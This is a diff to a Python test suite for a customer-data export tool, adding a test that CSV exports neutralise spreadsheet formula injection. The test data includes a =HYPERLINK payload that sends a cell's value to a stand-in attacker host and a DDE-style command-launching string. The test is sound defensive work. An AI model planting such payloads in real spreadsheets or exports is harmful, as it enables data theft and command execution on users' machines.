@@ -462,8 +462,8 @@ def test_a_json_lines_file_that_cannot_be_read_back_withholds_the_export(world, 
     _membership(warehouse, [d])
     real = exports_module._copy
 
-    def copy(con, query, params, path, fmt, csv_bom):
-        real(con, query, params, path, fmt, csv_bom)
+    def copy(con, query, params, path, fmt, csv_bom, *more):
+        real(con, query, params, path, fmt, csv_bom, *more)
         if path.name == "buyers.jsonl":
             lines = path.read_text(encoding="utf-8").splitlines()
             path.write_text("\n".join(["{not json", *lines[1:]]) + "\n", encoding="utf-8")
@@ -597,6 +597,43 @@ def test_a_key_merged_into_a_customer_who_opted_out_leaves_as_opted_out(world):
     second = _export(warehouse, exports, d)
     reasons = {r["customer_key"]: r["reason"] for r in _read(second.path / "removes.jsonl")}
     assert reasons == {"C1": "opted_out", "C2": "merged", "C3": "opted_out"}
+
+
+def test_a_campaign_a_spreadsheet_would_run_is_neutralised_in_csv_only(world):
+    """The CSV has a BOM so that Excel opens it by double-click, and a campaign is free text from outside: a
+    privacy review planted =HYPERLINK(...) and @SUM(...) campaigns and found them written as they came. In CSV a
+    campaign starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP); Parquet and
+    JSON Lines keep it exact, identifiers and money are untouched, and the next export diffs as before."""
+    warehouse, exports = world
+    (d,) = _defs()
+    planted = {"C1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "C2": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "C3": "+86 spring"}
+    con = connect(warehouse)
+    for key, campaign in planted.items():
+        con.execute("update marts.dim_customers set acquisition_campaign = ? where customer_key = ?", [campaign, key])
+    con.close()
+    _membership(warehouse, [d])
+    first = _export(warehouse, exports, d)
+    for name in ("buyers.csv", "adds.csv"):
+        csv_rows = {r["customer_key"]: r for r in _csv_dicts(first.path / name)}
+        assert {k: csv_rows[k]["acquisition_campaign"] for k in planted} == {k: "'" + v for k, v in planted.items()}, name
+    assert {r["customer_key"]: r["acquisition_campaign"] for r in _read(first.path / "buyers.jsonl")} == planted
+    con = duckdb.connect()
+    assert dict(con.execute(f"select customer_key, acquisition_campaign from '{first.path / 'buyers.parquet'}'").fetchall()) == planted
+    # nothing changed: the next export adds and removes nothing (identifiers are diffed, not campaigns)
+    con = connect(warehouse)
+    con.execute("update marts.dim_customers set net_revenue = 100 where customer_key = 'C1'")
+    con.close()
+    _membership(warehouse, [d])
+    second = _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
+    assert (second.adds, second.removes) == (0, 0)
+
+
+def _csv_dicts(path):
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return list(csv.DictReader(f))
 
 
 def test_old_exports_that_cannot_be_removed_leave_the_new_export_published(world, monkeypatch):
